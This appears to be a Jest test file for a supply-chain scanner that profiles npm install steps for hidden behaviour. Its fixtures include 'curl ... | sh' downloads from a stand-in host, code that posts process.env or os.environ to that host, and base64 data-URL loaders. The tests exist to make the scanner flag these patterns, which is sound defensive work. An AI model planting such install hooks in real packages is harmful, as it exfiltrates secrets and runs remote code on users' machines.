import { describe, expect, test } from '@jest/globals';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import { filesOf } from './files.js';

const drop = 'https://drop.example.invalid/v1';
const sends = `require('https').request('${drop}', { method: 'POST' }).end(JSON.stringify(process.env))`;

/** Ways of data that a step's tools show at install: `source sink`, and what was not read. */
function shown(postinstall: string, files: { readonly [path: string]: string } = {}): { readonly flows: readonly string[]; readonly unread: readonly string[] } {
  const { value } = profilePackage({ files: filesOf({ 'package.json': JSON.stringify({ name: 'left', version: '1.0.0', scripts: { postinstall } }), ...files }) });
  return { flows: [...new Set(value.flows.flatMap(({ source, sink, trigger }) => (trigger === 'install' ? [`${source} ${sink}`] : [])))].sort(), unread: value.unread.map(({ path, code }) => `${path} ${code}`) };
}

describe('what the tools of an install step run', () => {
  test.each<readonly [string, { readonly [path: string]: string }, string]>([
    ['make', { Makefile: `all:\n\tcurl -s ${drop} | sh\n` }, 'download exec'],
    ['cd native && make setup', { 'native/Makefile': `all:\n\techo\nsetup:\n\tcurl -s ${drop} | sh\n` }, 'download exec'],
    ['make -f build.mk', { 'build.mk': `all:\n\tnode x.js\n`, 'x.js': sends }, 'environment network'],
    ['make -C native', { 'native/makefile': 'include more.mk\n', 'native/more.mk': `all:\n\tcurl -s ${drop} | sh\n` }, 'download exec'],
    [`node --import "data:text/javascript,${sends}" setup.js`, { 'setup.js': '1' }, 'environment network'],
    [`node "--require=data:text/javascript;base64,${Buffer.from(sends).toString('base64')}" setup.js`, { 'setup.js': '1' }, 'environment network'],
    ['NODE_OPTIONS=--require=./x.js node setup.js', { 'setup.js': '1', 'x.js': sends }, 'environment network'],
    ['cd vendor && npm install --no-audit', { 'vendor/package.json': '{"dependencies":{"a":"https://drop.example.invalid/e.tgz"}}' }, 'download exec'],
    ['npm --prefix vendor install', { 'vendor/package.json': '{"scripts":{"postinstall":"node x.js"}}', 'vendor/x.js': sends }, 'environment network'],
    ['python3 -m tools.setup', { 'tools/setup.py': `import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request('${drop}', data=json.dumps(dict(os.environ)).encode()))\n` }, 'environment network'],
    ['. ./x.env && echo ok', { 'x.env': `curl -s ${drop} | sh\n` }, 'download exec'],
    ['sh setup', { setup: `curl -s ${drop} | sh\n` }, 'download exec'],
    ['perl setup.pl', { 'setup.pl': `system("curl -s ${drop} | sh");\n` }, 'download exec'],
  ])('%s', (command, files, expected) => { expect(shown(command, files).flows).toContain(expected); });

  test.each<readonly [string, { readonly [path: string]: string }]>([
    ['make', { Makefile: `all:\n\tcc -o x x.c\nrelease:\n\tcurl -s ${drop} | sh\n` }], ['make', { Makefile: 'all:\n\tnode-gyp rebuild\n' }], ['npm run make', { Makefile: `all:\n\tcurl -s ${drop} | sh\n` }], ['node --import "data:text/javascript,globalThis.x=1" setup.js', { 'setup.js': '1' }], ['cd vendor && npm install', { 'vendor/package.json': '{"dependencies":{"a":"^1.0.0"}}' }],
    ['npm install', { 'vendor/package.json': '{"dependencies":{"a":"https://drop.example.invalid/e.tgz"}}' }], ['cd vendor && npm test', { 'vendor/package.json': '{"dependencies":{"a":"https://drop.example.invalid/e.tgz"}}' }], ['python3 -m venv .venv', { 'setup.py': `import os, urllib.request\nurllib.request.urlopen('${drop}', data=str(os.environ))\n` }],
  ])('nothing of it: %s', (command, files) => { expect(shown(command, files).flows).toEqual([]); });

  test.each(['perl setup.pl', 'ruby setup.rb', 'php setup.php', './setup'])('a script in a language that is not read is unread, whatever it looks like: %s', (command) => {
    const name = command.replace(/^.* |^\.\//, '');
    expect(shown(command, { [name]: name === 'setup' ? '#!/usr/bin/env perl\nprint(1);\n' : 'print(1);\n' }).unread).toEqual([`${name} PARSE_FAILED`]);
  });
  test('one that no step runs is nothing', () => { expect(shown('node x.js', { 'x.js': '1', 'setup.pl': 'print(1);' }).unread).toEqual([]); });
});

describe('makefiles that lead back to themselves, or on without end', () => {
  const evil = '\tcurl https://drop.example.invalid/x | sh\n';
  const read = { flows: ['download exec'], unread: [] };
  test.each<[name: string, command: string, files: { readonly [path: string]: string }]>([
    ['one that takes in itself', 'make', { Makefile: `include Makefile\nall:\n${evil}` }],
    ['two that take in each other', 'make', { Makefile: `include a.mk\nall:\n${evil}`, 'a.mk': 'include Makefile\nX = 1\n' }],
    ['one that starts itself many times over', 'make', { Makefile: `all:\n${'\t$(MAKE) -C . all\n\t$(MAKE) -C . b\n\t$(MAKE) -C . c\n'.repeat(6)}b:\n\t$(MAKE) all c\nc:\n\t$(MAKE) all b\n${evil}` }],
    ['a folder whose steps install it again', 'cd v && npm install', { 'v/package.json': JSON.stringify({ scripts: { postinstall: 'npm install .; npm install .; npm ci; curl https://drop.example.invalid/x | sh' } }) }],
  ])('%s', (_, command, files) => {
    expect(shown(command, files)).toEqual(read);
  });
  test('what stands behind many calls is read, or that it was not is said', () => {
    for (const calls of [40, 2_000]) {
      const { flows, unread } = shown(`${Array.from({ length: calls }, (_, at) => `make a${at}`).join('; ')}; make evil`, { Makefile: `a%:\n\techo hi\nevil:\n${evil}` });
      expect(flows.length > 0 || unread.length > 0).toBe(true);
    }
  });
  test('a chain of a hundred thousand targets', () => {
    const { flows } = shown('make', { Makefile: Array.from({ length: 40_000 }, (_, at) => `t${40_000 - at}: t${40_001 - at}\n`).join('').replace(/^/, `all: t1\nt40001:\n${evil}`) });
    expect(flows).toEqual(['download exec']);
  });
  test('variables that swell', () => {
    const { unread } = shown('make', { Makefile: `A = ${'x'.repeat(4_000)}\nB = ${'$(A)'.repeat(900)}\nall:\n${'\techo $(B)\n'.repeat(3_000)}` });
    expect(unread.length).toBeGreaterThan(0);
  });
  test('a makefile that is too long', () => {
    expect(shown('make', { Makefile: `all:\n\techo hi\n${'# x\n'.repeat(300_000)}b:\n${evil}` }).unread.length).toBeGreaterThan(0);
  });
});
